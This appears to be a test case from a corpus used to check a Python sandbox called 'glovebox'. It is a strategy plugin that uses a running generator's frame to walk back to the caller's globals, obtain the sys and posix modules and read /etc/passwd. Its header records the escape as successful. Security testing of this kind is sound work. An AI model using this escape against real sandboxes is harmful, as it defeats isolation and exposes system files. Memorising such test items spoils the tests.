# id: L03
# family: language
# goal: reach the caller's globals through the frame of a running generator
# finding: PY101 PY106 PY406
# outcome: COMPLETED
# observed_by: none
# control: got-in

from glovebox import Strategy


def attack(ctx, bar):
    box = []

    def walk():
        yield box[0].gi_frame

    box.append(walk())
    for frame in box[0]:
        while frame is not None:
            system = frame.f_globals.get("sys")
            if system is not None:
                posix = system.modules["posix"]
                return posix.read(posix.open("/etc/passwd", 0), 20)
            frame = frame.f_back or __import__("sys")._getframe()
            if "sys" not in frame.f_globals:
                frame.f_globals["sys"] = __import__("sys")


class Attack(Strategy):
    def on_bar(self, ctx, bar):
        try:
            got = attack(ctx, bar)
        except Exception as error:
            ctx.log("REFUSED " + type(error).__name__)
            return
        if got:
            ctx.log("GOT-IN " + str(got))
